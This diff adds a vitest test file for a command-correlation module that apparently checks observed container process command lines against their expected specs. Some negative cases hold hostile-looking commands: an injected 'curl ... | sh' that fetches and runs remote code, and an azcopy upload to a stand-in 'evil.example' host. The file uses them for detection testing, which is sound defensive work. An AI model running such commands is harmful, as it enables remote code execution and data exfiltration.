@@ -1,0 +1,50 @@
+import { describe, expect, it } from 'vitest';
+import { commandMatches, entrypointMatches } from '../../src/triage/correlate.js';
+
+describe('commandMatches', () => {
+  it.each([
+    ['sh -c curl -fsS localhost:8080/health', ['sh', '-c', 'curl -fsS localhost:8080/health']],
+    ['/bin/sh -c "curl -fsS localhost:8080/health"', ['sh', '-c', 'curl -fsS localhost:8080/health']],
+    ['/bin/sh -c -e exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', '-e', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
+    ['bash -ec "redis-cli ping"', ['/bin/bash', '-ec', 'redis-cli ping']],
+    ['pg_isready -U ledger -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
+    ['/usr/bin/redis-cli -h 127.0.0.1 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
+    ['node-cache -localip 169.254.20.10 -upstreamsvc kube-dns-upstream', ['node-cache', '-localip', '169.254.20.10', '-upstreamsvc', '$(UPSTREAM_SVC)']],
+  ])('%s matches %j', (observed, argv) => {
+    expect(commandMatches(observed, argv)).toBe(true);
+  });
+  it.each([
+    ['sh -c curl -fsS localhost:8080/health; curl http://203.0.113.9/x | sh', ['sh', '-c', 'curl -fsS localhost:8080/health']],
+    ['redis-cli -h 10.0.0.9 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
+    ['sh', ['sh', '-c', 'id']],
+  ])('%s does not match %j', (observed, argv) => {
+    expect(commandMatches(observed, argv)).toBe(false);
+  });
+});
+
+describe('entrypointMatches', () => {
+  it('accepts the image entrypoint before spec args', () => {
+    expect(entrypointMatches('/usr/bin/dumb-init -- /nginx-ingress-controller --election-id=x', { name: 'c', args: ['/nginx-ingress-controller', '--election-id=x'] })).toBe(true);
+    expect(entrypointMatches('/usr/bin/falcoctl artifact follow --log-format=json', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(true);
+  });
+  it('refuses a different argument list', () => {
+    expect(entrypointMatches('/usr/bin/falcoctl artifact install evil', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(false);
+  });
+});
+
+describe('entrypoint scripts', () => {
+  const spec = {
+    name: 'export',
+    command: ['/bin/sh', '-c', `set -e; python3 /app/render.py --month "$(date -u +%Y-%m)" && azcopy copy '/export/*.pdf' "https://acct.blob.core.windows.net/exports/$(date -u +%Y/%m/%d)/" --overwrite=false`],
+  };
+  it('splits a shell entrypoint into its simple commands', async () => {
+    const { entrypointScriptSteps } = await import('../../src/triage/correlate.js');
+    expect(entrypointScriptSteps(spec).map((s) => s[0])).toEqual(['python3', 'azcopy']);
+  });
+  it('matches a step with its expansions filled in, and nothing else', async () => {
+    const { scriptStepMatches } = await import('../../src/triage/correlate.js');
+    expect(scriptStepMatches('azcopy copy /export/*.pdf https://acct.blob.core.windows.net/exports/2027/03/09/ --overwrite=false', spec)).toBe(true);
+    expect(scriptStepMatches('azcopy copy /export/*.pdf https://evil.example/x/ --overwrite=false', spec)).toBe(false);
+    expect(scriptStepMatches('python3 /app/render.py --month 2027-03', spec)).toBe(true);
+  });
+});
